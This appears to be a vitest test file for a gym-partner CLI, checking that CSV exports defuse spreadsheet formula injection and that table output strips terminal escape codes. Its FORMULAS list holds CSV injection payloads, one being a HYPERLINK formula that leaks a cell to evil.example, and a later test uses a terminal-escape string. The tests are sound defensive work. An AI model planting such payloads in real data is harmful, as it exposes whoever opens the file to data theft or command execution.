import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  cliOn,
  csvOf,
  expectSuccess,
  isoMillis,
  openStore,
  tableOf,
  useTempDir,
} from '../../fixtures/processes/cli.js';
import type { Store } from '../../../src/store/store.js';

/** Names a spreadsheet would run as formulas (OWASP's CSV injection list), and one it would not. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '＝Full-width equals',
];
const PLAIN = 'Iron Temple, "the" gym';

const tempDir = useTempDir();

describe('what the CLI prints is safe to open in a spreadsheet and to show in a terminal', () => {
  const url = `sqlite:${join(tempDir(), 'safety.db')}`;
  const cli = cliOn(url);
  let store: Store;
  beforeAll(async () => {
    expectSuccess(await cli(['migrate']));
    store = openStore(url);
  });
  afterAll(async () => {
    await store.close();
  });

  test('when names start like formulas, then CSV output prefixes them with a quote, and plain names and ids are untouched', async () => {
    for (const name of [...FORMULAS, PLAIN]) expectSuccess(await cli(['partner', 'create', '--', name]));
    const rows = await store.db.selectFrom('partners').selectAll().orderBy('id').execute();

    const csv = await cli(['partner', 'list', '--format', 'csv']);

    expect(csvOf(csv)).toEqual(
      rows.map((row) => ({
        id: String(row.id),
        name: row.name === PLAIN ? PLAIN : `'${row.name}`,
        offboarded_at: '',
        sandbox: 'false',
        created_at: isoMillis(row.created_at),
      })),
    );
    expect(rows.map((row) => row.name)).toEqual([...FORMULAS, PLAIN]);
  });

  test('when a product description starts with "-", then the CSV defuses it, while its numbers stay numbers', async () => {
    expectSuccess(await cli(['partner', 'create', 'Product owner']));
    const { id: partner } = await store.db
      .selectFrom('partners')
      .select('id')
      .where('name', '=', 'Product owner')
      .executeTakeFirstOrThrow();
    expectSuccess(await cli(['gym', 'create', '--partner', String(partner), '--id', '5', '--name', 'Gym']));
    expectSuccess(
      await cli(['product', 'create', '--gym', '5', '--description', '-1 month free', '--payout-cents', '0']),
    );

    const csv = expectSuccess(await cli(['product', 'list', '--gym', '5', '--format', 'csv']));

    const [product] = await store.db.selectFrom('products').selectAll().where('gym_id', '=', 5).execute();
    expect(csv.stdout).toBe(
      `id,gym_id,description,payout_cents,currency,retired_at,category\n${product!.id},5,'-1 month free,0,BRL,,standard\n`,
    );
  });

  test('when a stored name holds terminal escapes (written before names were checked), then the table prints it without them', async () => {
    const name = 'Evil\u001b]0;pwned\u0007\u001b[2J Gym\u009b';
    const { id } = await store.db
      .insertInto('partners')
      .values({ name, created_at: Date.parse('2026-01-01T00:00:00.000Z') })
      .returning('id')
      .executeTakeFirstOrThrow();

    const table = expectSuccess(await cli(['partner', 'list', '--format', 'table']));

    // eslint-disable-next-line no-control-regex
    expect(table.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(tableOf(table).find((row) => row.id === String(id))).toEqual({
      id: String(id),
      name: 'Evil]0;pwned[2J Gym',
      offboarded_at: '',
      sandbox: 'false',
      created_at: '2026-01-01T00:00:00.000Z',
    });
  });
});
